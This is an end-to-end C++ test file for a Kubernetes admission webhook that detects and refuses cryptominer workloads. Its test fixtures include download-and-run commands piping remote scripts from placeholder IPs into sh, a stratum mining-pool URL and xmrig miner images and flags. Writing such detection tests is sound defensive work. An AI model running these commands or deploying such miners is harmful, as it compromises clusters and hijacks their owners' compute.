@@ -1,0 +1,314 @@
+// The webhook through the real kube-apiserver: a ValidatingWebhookConfiguration
+// makes the API server call this process over TLS, and requests are made with
+// kubectl or the client as a user would.
+#include <gtest/gtest.h>
+#include <prometheus/registry.h>
+
+#include <atomic>
+#include <filesystem>
+#include <fstream>
+#include <thread>
+
+#include "e2e/cluster.h"
+#include "e2e/environment.h"
+#include "e2e/poll.h"
+#include "kube/client.h"
+#include "kube/pki.h"
+#include "webhook/server.h"
+
+namespace orderguard::webhook {
+namespace {
+
+using e2e::cluster;
+using e2e::poll_until;
+using kube::json;
+using namespace std::chrono_literals;
+namespace res = kube::resources;
+
+const char* kConfigName = "orderguard-e2e";
+
+void write_file(const std::string& path, const std::string& text) {
+  std::ofstream(path, std::ios::binary | std::ios::trunc) << text;
+}
+
+json pod(const std::string& name, const std::string& image, const json& args = json::array()) {
+  json c = {{"name", "main"}, {"image", image}};
+  if (!args.empty()) c["args"] = args;
+  return {{"apiVersion", "v1"},
+          {"kind", "Pod"},
+          {"metadata", {{"name", name}, {"namespace", "shop"}}},
+          {"spec", {{"containers", json::array({c})}}}};
+}
+
+class WebhookE2E : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    auto crd = cluster().kubectl(
+        {"apply", "-f", std::string(ORDERGUARD_SOURCE_DIR) + "/crds/minerpolicies.yaml"});
+    ASSERT_TRUE(crd.ok()) << crd.describe();
+    ASSERT_TRUE(cluster()
+                    .kubectl({"wait", "--for=condition=Established", "--timeout=60s",
+                              "crd/minerpolicies.security.orderguard.io"})
+                    .ok());
+    client_ = std::move(kube::make_client(cluster().admin_config())).value();
+    dir_ = cluster().work_dir() + "/webhook";
+    std::filesystem::create_directories(dir_);
+    ca_.emplace(std::move(kube::generate_ca({.common_name = "orderguard-webhook-ca"})).value());
+    issue_serving_cert();
+
+    registry_ = std::make_shared<prometheus::Registry>();
+    hook_ = std::make_unique<Webhook>(WebhookOptions{.address = "127.0.0.1",
+                                                     .port = 0,
+                                                     .metrics_address = "127.0.0.1",
+                                                     .metrics_port = 0,
+                                                     .tls_cert_file = dir_ + "/tls.crt",
+                                                     .tls_key_file = dir_ + "/tls.key",
+                                                     .cert_check_interval = 200ms},
+                                      client_.get(), registry_);
+    auto st = hook_->start();
+    ASSERT_TRUE(st.ok()) << st.error().describe();
+    ASSERT_TRUE(poll_until([] { return hook_->ready(); }, 60s));
+    register_webhook("Fail", hook_->port());
+    ASSERT_TRUE(cluster().kubectl({"create", "namespace", "shop"}).ok());
+    ASSERT_TRUE(poll_until(
+        [] { return client_->get(res::kServiceAccounts, "shop", "default").ok(); }, 60s));
+  }
+
+  static void TearDownTestSuite() {
+    if (client_) {
+      (void)client_->remove(res::kValidatingWebhookConfigurations, "", kConfigName);
+    }
+    if (hook_) hook_->stop();
+    hook_.reset();
+    client_.reset();
+  }
+
+  // A serving certificate for 127.0.0.1 signed by ca_, written where the
+  // webhook watches for it.
+  static void issue_serving_cert() {
+    auto leaf = kube::generate_signed(
+        {.common_name = "orderguard-webhook", .ip_addresses = {"127.0.0.1"}, .server_auth = true},
+        *ca_);
+    ASSERT_TRUE(leaf.ok()) << leaf.error().describe();
+    write_file(dir_ + "/tls.key.tmp", leaf->key_pem);
+    write_file(dir_ + "/tls.crt.tmp", leaf->cert_pem);
+    std::filesystem::rename(dir_ + "/tls.key.tmp", dir_ + "/tls.key");
+    std::filesystem::rename(dir_ + "/tls.crt.tmp", dir_ + "/tls.crt");
+  }
+
+  static void register_webhook(const std::string& failure_policy, uint16_t port) {
+    auto rule = [](json groups, json resources, json ops) {
+      return json{{"apiGroups", groups},
+                  {"apiVersions", {"*"}},
+                  {"resources", resources},
+                  {"operations", ops}};
+    };
+    json config = {
+        {"apiVersion", "admissionregistration.k8s.io/v1"},
+        {"kind", "ValidatingWebhookConfiguration"},
+        {"metadata", {{"name", kConfigName}}},
+        {"webhooks",
+         {{{"name", "miners.orderguard.io"},
+           {"admissionReviewVersions", {"v1"}},
+           {"sideEffects", "None"},
+           {"failurePolicy", failure_policy},
+           {"timeoutSeconds", 5},
+           {"namespaceSelector",
+            {{"matchExpressions",
+              {{{"key", "kubernetes.io/metadata.name"},
+                {"operator", "NotIn"},
+                {"values", {"kube-system"}}}}}}},
+           {"clientConfig",
+            {{"url", "https://127.0.0.1:" + std::to_string(port) + "/validate"},
+             {"caBundle", kube::base64_encode(ca_->cert_pem)}}},
+           {"rules",
+            {rule({""}, {"pods", "pods/ephemeralcontainers", "replicationcontrollers"},
+                  {"CREATE", "UPDATE"}),
+             rule({"apps"}, {"deployments", "statefulsets", "daemonsets", "replicasets"},
+                  {"CREATE", "UPDATE"}),
+             rule({"batch"}, {"jobs", "cronjobs"}, {"CREATE", "UPDATE"}),
+             rule({"security.orderguard.io"}, {"minerpolicies"}, {"CREATE", "UPDATE"})}}}}}};
+    auto applied = cluster().kubectl({"apply", "-f", "-"}, config.dump());
+    ASSERT_TRUE(applied.ok()) << applied.describe();
+  }
+
+  static e2e::CommandResult apply(const json& obj) {
+    return cluster().kubectl({"apply", "-f", "-"}, obj.dump());
+  }
+
+  static inline std::unique_ptr<kube::Client> client_;
+  static inline std::unique_ptr<Webhook> hook_;
+  static inline std::shared_ptr<prometheus::Registry> registry_;
+  static inline std::optional<kube::KeyPair> ca_;
+  static inline std::string dir_;
+};
+
+TEST_F(WebhookE2E, MinerPodIsRefusedWithTheRuleInTheMessage) {
+  auto r = apply(pod("miner", "xmrig"));
+  ASSERT_FALSE(r.ok());
+  EXPECT_NE(r.err.find("denied the request"), std::string::npos) << r.err;
+  EXPECT_NE(r.err.find("rule blocked-image"), std::string::npos) << r.err;
+  EXPECT_NE(r.err.find("container main"), std::string::npos) << r.err;
+  EXPECT_FALSE(client_->get(res::kPods, "shop", "miner").ok());
+}
+
+TEST_F(WebhookE2E, BenignPodIsAllowed) {
+  auto r = apply(pod("web", "nginx:1.27", {"--port=8080"}));
+  ASSERT_TRUE(r.ok()) << r.describe();
+  EXPECT_TRUE(client_->get(res::kPods, "shop", "web").ok());
+}
+
+TEST_F(WebhookE2E, DeploymentCronJobAndInitContainerAreRefused) {
+  json deployment = {
+      {"apiVersion", "apps/v1"},
+      {"kind", "Deployment"},
+      {"metadata", {{"name", "worker"}, {"namespace", "shop"}}},
+      {"spec",
+       {{"selector", {{"matchLabels", {{"app", "worker"}}}}},
+        {"template",
+         {{"metadata", {{"labels", {{"app", "worker"}}}}},
+          {"spec",
+           {{"containers",
+             {{{"name", "app"},
+               {"image", "ubuntu:24.04"},
+               {"command", {"/tmp/.x/run", "-o", "stratum+tcp://pool.minexmr.com:4444"}}}}}}}}}}}};
+  auto d = apply(deployment);
+  ASSERT_FALSE(d.ok());
+  EXPECT_NE(d.err.find("rule stratum-url"), std::string::npos) << d.err;
+  EXPECT_NE(d.err.find("spec.template.spec.containers[0].command"), std::string::npos) << d.err;
+
+  json cronjob = {
+      {"apiVersion", "batch/v1"},
+      {"kind", "CronJob"},
+      {"metadata", {{"name", "nightly"}, {"namespace", "shop"}}},
+      {"spec",
+       {{"schedule", "0 3 * * *"},
+        {"jobTemplate",
+         {{"spec",
+           {{"template",
+             {{"spec",
+               {{"restartPolicy", "Never"},
+                {"containers",
+                 {{{"name", "job"},
+                   {"image", "alpine:3.20"},
+                   {"command",
+                    {"sh", "-c", "curl -fsSL http://198.51.100.7/x.sh | sh"}}}}}}}}}}}}}}}};
+  auto cj = apply(cronjob);
+  ASSERT_FALSE(cj.ok());
+  EXPECT_NE(cj.err.find("rule dropper"), std::string::npos) << cj.err;
+  EXPECT_NE(cj.err.find("spec.jobTemplate.spec.template.spec.containers[0]"), std::string::npos)
+      << cj.err;
+
+  json with_init = pod("init-miner", "nginx:1.27");
+  with_init["spec"]["initContainers"] = {
+      {{"name", "setup"}, {"image", "busybox"}, {"args", {"--donate-level=1", "-a", "rx/0"}}}};
+  auto ic = apply(with_init);
+  ASSERT_FALSE(ic.ok());
+  EXPECT_NE(ic.err.find("container setup"), std::string::npos) << ic.err;
+  EXPECT_NE(ic.err.find("rule miner-flag"), std::string::npos) << ic.err;
+}
+
+TEST_F(WebhookE2E, ImageChangeOnExistingPodAndEphemeralContainerAreRefused) {
+  ASSERT_TRUE(apply(pod("editable", "nginx:1.27")).ok());
+  auto changed = client_->patch(res::kPods, "shop", "editable", kube::PatchType::kJson,
+                                json::array({{{"op", "replace"},
+                                              {"path", "/spec/containers/0/image"},
+                                              {"value", "xmrig/xmrig:6.21"}}}));
+  ASSERT_FALSE(changed.ok());
+  EXPECT_EQ(changed.error().http_status, 403) << changed.error().describe();
+  EXPECT_NE(changed.error().message.find("rule blocked-image"), std::string::npos);
+
+  auto current = client_->get(res::kPods, "shop", "editable");
+  ASSERT_TRUE(current.ok());
+  json with_debug = *current;
+  with_debug["spec"]["ephemeralContainers"] = {
+      {{"name", "debugger"},
+       {"image", "docker.io/library/busybox:1.36"},
+       {"command", {"sh", "-c", "wget -qO- http://203.0.113.9/kinsing | sh"}}}};
+  auto eph = client_->update(res::kPods, "shop", with_debug, "ephemeralcontainers");
+  ASSERT_FALSE(eph.ok());
+  EXPECT_EQ(eph.error().http_status, 403) << eph.error().describe();
+  EXPECT_NE(eph.error().message.find("container debugger"), std::string::npos)
+      << eph.error().message;
+}
+
+TEST_F(WebhookE2E, InvalidMinerPolicyIsRefusedWithTheField) {
+  json bad = {{"apiVersion", "security.orderguard.io/v1alpha1"},
+              {"kind", "MinerPolicy"},
+              {"metadata", {{"name", "broken"}}},
+              {"spec", {{"signatures", {{{"name", "bad"}, {"regex", "(unclosed"}}}}}}};
+  auto r = apply(bad);
+  ASSERT_FALSE(r.ok());
+  EXPECT_NE(r.err.find("spec.signatures[0].regex"), std::string::npos) << r.err;
+}
+
+TEST_F(WebhookE2E, AuditModeWarnsAndPolicyChangesApplyWithoutRestart) {
+  json audit = {{"apiVersion", "security.orderguard.io/v1alpha1"},
+                {"kind", "MinerPolicy"},
+                {"metadata", {{"name", "team"}}},
+                {"spec", {{"mode", "Audit"}}}};
+  ASSERT_TRUE(apply(audit).ok());
+  // Once the informer has it, a miner pod is admitted with a warning.
+  e2e::CommandResult r;
+  ASSERT_TRUE(poll_until(
+      [&] {
+        r = apply(pod("audited", "xmrig"));
+        return r.ok();
+      },
+      30s))
+      << r.describe();
+  EXPECT_NE(r.err.find("Warning:"), std::string::npos) << r.err;
+  EXPECT_NE(r.err.find("blocked-image"), std::string::npos) << r.err;
+
+  audit["spec"]["mode"] = "Enforce";
+  ASSERT_TRUE(apply(audit).ok());
+  ASSERT_TRUE(poll_until([&] { return !apply(pod("audited-2", "xmrig")).ok(); }, 30s));
+  ASSERT_TRUE(cluster().kubectl({"delete", "minerpolicy", "team"}).ok());
+}
+
+TEST_F(WebhookE2E, CertificateRotationWithoutFailedAdmissions) {
+  std::atomic<bool> stop{false};
+  std::atomic<int> failures{0}, attempts{0};
+  std::thread load([&] {
+    for (int i = 0; !stop.load(); ++i) {
+      json p = pod("rot-" + std::to_string(i), "nginx:1.27");
+      auto created = client_->create(res::kPods, "shop", p);
+      attempts++;
+      if (!created.ok()) failures++;
+    }
+  });
+  ASSERT_TRUE(poll_until([&] { return attempts.load() >= 5; }, 30s));
+  for (int i = 0; i < 3; ++i) {
+    issue_serving_cert();
+    const int before = attempts.load();
+    ASSERT_TRUE(poll_until([&] { return attempts.load() >= before + 5; }, 30s));
+  }
+  stop = true;
+  load.join();
+  EXPECT_EQ(failures.load(), 0) << "of " << attempts.load();
+}
+
+// Last: takes the webhook away.
+TEST_F(WebhookE2E, WebhookDownFailClosedOrOpenByFailurePolicy) {
+  // Point the configuration at a port nobody listens on.
+  register_webhook("Fail", 1);
+  ASSERT_TRUE(poll_until([] { return !apply(pod("down-fail", "nginx:1.27")).ok(); }, 30s));
+  auto r = apply(pod("down-fail", "nginx:1.27"));
+  EXPECT_NE(r.err.find("failed calling webhook"), std::string::npos) << r.err;
+
+  register_webhook("Ignore", 1);
+  e2e::CommandResult ok;
+  ASSERT_TRUE(poll_until(
+      [&] {
+        ok = apply(pod("down-ignore", "nginx:1.27"));
+        return ok.ok();
+      },
+      30s))
+      << ok.describe();
+  register_webhook("Fail", hook_->port());
+}
+
+}  // namespace
+}  // namespace orderguard::webhook
+
+int main(int argc, char** argv) { return orderguard::e2e::run_e2e_tests(argc, argv); }
